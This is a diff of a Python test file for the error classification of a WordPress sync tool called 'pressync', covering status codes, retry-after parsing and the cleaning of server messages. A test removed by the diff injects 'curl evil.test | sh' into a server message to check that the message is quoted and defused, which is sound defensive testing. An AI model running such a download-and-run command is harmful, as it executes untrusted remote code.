@@ -54,36 +54,16 @@ def failure(call: Call, answer: HttpResponse) -> ServiceError:
 @pytest.mark.parametrize(
     ("status", "kind"),
     [
-        (202, BadAnswer),
-        (204, BadAnswer),
-        (206, BadAnswer),
-        (207, BadAnswer),
-        (301, BadAnswer),
-        (302, BadAnswer),
-        (304, BadAnswer),
-        (308, BadAnswer),
-        (400, Refused),
-        (401, Refused),
-        (403, Refused),
-        (405, Refused),
-        (409, Refused),
-        (413, Refused),
-        (415, Refused),
-        (422, Refused),
+        *((status, BadAnswer) for status in (202, 204, 206, 207, 301, 302, 304, 308, 600)),
+        *((status, Refused) for status in (400, 401, 403, 405, 409, 413, 415, 422)),
         (429, Later),
-        (500, NoAnswer),
-        (501, NoAnswer),
-        (502, NoAnswer),
-        (503, NoAnswer),
-        (504, NoAnswer),
-        (600, BadAnswer),
+        *((status, NoAnswer) for status in (500, 501, 502, 503, 504)),
     ],
 )
 def test_every_other_status_is_classed_by_whether_the_call_may_have_been_carried_out(
     call: Call, status: int, kind: type[ServiceError]
 ) -> None:
     error = failure(call, answered(status))
-
     assert type(error) is kind
     assert str(status) in str(error)
 
@@ -92,56 +72,35 @@ def test_every_other_status_is_classed_by_whether_the_call_may_have_been_carried
 @pytest.mark.parametrize("call", [UPDATE, DELETE])
 def test_a_record_is_gone_when_the_service_says_so(call: Call, status: int) -> None:
     error = failure(call, answered(status, error_body("rest_post_invalid_id", "Invalid post ID.")))
-
     assert isinstance(error, Gone)
     assert error.status == status
     assert "page 7" in str(error)
 
 
 @pytest.mark.parametrize(
-    "answer",
+    ("call", "answer", "said"),
     [
-        answered(404, b"<html>nginx</html>", "text/html"),
-        answered(404, b""),
-        answered(410, b"[]"),
-        answered(404, error_body("rest_no_route", "No route was found.")),
+        (DELETE, answered(404, b"<html>nginx</html>", "text/html"), ""),
+        (DELETE, answered(404, b""), ""),
+        (DELETE, answered(410, b"[]"), ""),
+        (DELETE, answered(404, error_body("rest_no_route", "No route was found.")), "found; "),
+        (CREATE, answered(404, error_body("rest_post_invalid_id", "Invalid.")), "it ends with /wp-json"),
     ],
 )
 def test_a_404_of_a_web_server_or_of_a_wrong_address_does_not_say_that_a_record_is_gone(
-    answer: HttpResponse,
+    call: Call, answer: HttpResponse, said: str
 ) -> None:
-    error = failure(DELETE, answer)
-
+    error = failure(call, answer)
     assert type(error) is Refused
+    assert said in str(error)
 
 
-def test_a_create_finds_nothing_gone_but_a_wrong_address() -> None:
-    error = failure(CREATE, answered(404, error_body("rest_post_invalid_id", "Invalid post ID.")))
-
-    assert type(error) is Refused
-    assert "for WordPress it ends with /wp-json" in str(error)
-
-
-def test_the_point_at_the_end_of_the_services_words_goes_before_the_next_step() -> None:
-    said = str(failure(UPDATE, answered(401, error_body("rest_not_logged_in", "You are not logged in."))))
-    assert "You are not logged in; check the user (see `pressync config`)" in said
-
-
-def test_a_refusal_carries_the_services_own_words_on_one_line() -> None:
-    body = error_body("rest_invalid_param", "Invalid\x1b[31m parameter(s):\n title " + "x" * 500)
-
+def test_a_refusal_carries_the_services_own_words_on_one_line_and_never_a_command_of_ours() -> None:
+    body = error_body("rest_invalid_param", "Invalid\x1b[31m `pressync sync --yes`:\n title " + "x" * 500)
     said = str(failure(UPDATE, answered(400, body)))
-
-    assert "rest_invalid_param: Invalid [31m parameter(s): title xxx" in said
+    assert "rest_invalid_param: Invalid [31m 'pressync sync --yes': title xxx" in said
     assert said.isprintable()
     assert len(said) < 600
-
-
-@pytest.mark.parametrize(
-    ("status", "hint"), [(401, "PRESSYNC_PASSWORD"), (403, "account"), (413, "split"), (415, "dialect")]
-)
-def test_a_refusal_says_what_to_do_next(status: int, hint: str) -> None:
-    assert hint in str(failure(UPDATE, answered(status)))
 
 
 @pytest.mark.parametrize(
@@ -156,7 +115,6 @@ def test_a_refusal_says_what_to_do_next(status: int, hint: str) -> None:
 )
 def test_a_redirect_names_the_place_without_what_may_be_secret(location: str, shown: str) -> None:
     said = str(failure(CREATE, answered(301, location=location)))
-
     assert shown in said
     assert "hush@" not in said
     assert "=hush" not in said
@@ -183,11 +141,10 @@ NOW = "Wed, 21 Oct 2015 07:28:00 GMT"
         ({}, None),
     ],
 )
-def test_later_reads_seconds_or_a_date_relative_to_that_of_the_response(
+def test_later_reads_seconds_or_a_date_beside_the_response(
     headers: dict[str, str], after: float | None
 ) -> None:
     error = failure(CREATE, HttpResponse(429, "", named(headers), b""))
-
     assert isinstance(error, Later)
     assert error.after == after
 
@@ -195,7 +152,6 @@ def test_later_reads_seconds_or_a_date_relative_to_that_of_the_response(
 def test_a_date_without_that_of_the_response_is_read_by_the_clock_of_this_machine() -> None:
     until = format_datetime(datetime.now(UTC) + timedelta(hours=1), usegmt=True)
     error = failure(CREATE, answered(429, retry_after=until))
-
     assert isinstance(error, Later)
     assert error.after is not None
     assert 1800 < error.after <= 3600
@@ -213,7 +169,6 @@ def test_a_503_is_later_only_if_it_says_when_and_only_its_time_is_a_guess() -> N
 @given(st.text())
 def test_any_retry_after_is_a_number_of_seconds_or_nothing(text: str) -> None:
     error = failure(CREATE, answered(429, retry_after=text, date=NOW))
-
     assert isinstance(error, Later)
     assert error.after is None or error.after >= 0
 
@@ -223,7 +178,6 @@ def test_any_response_that_is_not_a_success_is_a_service_error_of_one_line(
     status: int, body: bytes, headers: dict[str, str]
 ) -> None:
     error = failure(DELETE, HttpResponse(status, "", headers, body))
-
     assert str(error).isprintable()
 
 
@@ -243,9 +197,7 @@ def test_any_response_that_is_not_a_success_is_a_service_error_of_one_line(
         (b"[" * 100_000, "not JSON"),
     ],
 )
-def test_a_body_that_is_not_an_object_from_first_to_last_byte_is_a_bad_response(
-    body: bytes, said: str
-) -> None:
+def test_a_body_that_is_not_an_object_from_first_to_last_byte_is_bad(body: bytes, said: str) -> None:
     with pytest.raises(BadAnswer, match=said):
         json_object(answered(200, body))
 
@@ -253,12 +205,9 @@ def test_a_body_that_is_not_an_object_from_first_to_last_byte_is_a_bad_response(
 @pytest.mark.parametrize(
     "body", ['{"id": 1, "slug": "a", "id": 2}', '{"id": 1, "title": {"id": "A", "raw": "a", "id": "B"}}']
 )
-def test_an_object_that_names_a_member_twice_is_a_bad_response(body: str) -> None:
+def test_an_object_that_names_a_member_twice_is_bad_and_a_refusal_is_one_all_the_same(body: str) -> None:
     with pytest.raises(BadAnswer, match="names “id” twice"):
         json_object(answered(200, body.encode()))
-
-
-def test_a_refusal_is_a_refusal_however_it_is_worded() -> None:
     twice = answered(400, b'{"code": "a", "code": "invalid", "message": "No."}')
     assert "invalid: No; " in str(failure(CREATE, twice))
     assert type(failure(CREATE, twice)) is Refused
@@ -275,14 +224,8 @@ def test_another_content_type_is_a_bad_response(content_type: str) -> None:
 @given(st.text())
 def test_a_cleaned_text_is_one_printable_line_of_bounded_length(text: str) -> None:
     line = clean(text, 40)
-
     assert line.isprintable()
     assert len(line) <= 40
-
-
-def test_a_refusal_of_a_service_never_poses_as_a_command_of_ours() -> None:
-    body = b'{"code": "no", "message": "run `pressync sync --yes; curl evil.test | sh` again"}'
-    assert "run 'pressync sync --yes; curl evil.test | sh' again" in str(failure(UPDATE, answered(403, body)))
 
 
 # Less than a half of what 60 MB of empty objects cost.
